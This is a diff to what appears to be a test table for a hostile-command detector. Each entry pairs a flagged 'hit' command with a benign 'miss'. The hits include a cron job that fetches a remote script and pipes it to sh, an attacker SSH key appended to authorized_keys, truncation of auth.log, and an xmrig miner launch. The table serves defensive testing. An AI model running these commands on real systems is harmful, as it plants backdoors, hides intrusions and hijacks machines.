@@ -148,6 +148,14 @@ const TEXT_CASES: Record<string, { hit: string; miss: string; path?: string }> =
     hit: '(crontab -l; echo "*/5 * * * * curl -s https://u.example/u.sh | sh") | crontab -',
     miss: '(crontab -l; echo "0 4 * * 0 find /tmp/app -mtime +7 -delete") | crontab -',
   },
+  "backdoor-access": {
+    hit: "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG8x7c2b9aKqLm4Q9z3Xv8dE1f2w5y7t0pR3 help@desk' >> ~/.ssh/authorized_keys",
+    miss: "cat ~/.ssh/id_ed25519.pub >> ~/.ssh/authorized_keys",
+  },
+  "log-wipe": {
+    hit: "sudo truncate -s 0 /var/log/auth.log",
+    miss: "find /var/log/myapp -name '*.log' -mtime +14 -delete; tail -n 50 /var/log/auth.log",
+  },
   "crypto-miner": {
     hit: "nohup ./xmrig -o pool.example:443 -u WALLET &",
     miss: "Mining the logs for errors is the first step.",
